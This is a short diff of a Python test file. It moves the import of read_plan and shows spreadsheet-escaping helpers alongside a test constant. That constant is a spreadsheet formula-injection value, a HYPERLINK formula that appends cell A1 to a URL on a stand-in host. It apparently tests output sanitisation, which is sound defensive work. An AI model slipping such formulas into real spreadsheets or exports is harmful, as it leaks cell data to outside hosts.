@@ -11,8 +11,8 @@ import openpyxl
 import pytest
 
 from optimizer.cli import main
+from optimizer.folder.read import read_plan
 from optimizer.outputs import spreadsheet_safe, unescape_text
-from optimizer.plan import read_plan
 
 TINY = Path(__file__).parent / "data" / "tiny.yaml"
 NAME = '=HYPERLINK("http://example.com/x?"&A1,"click")'
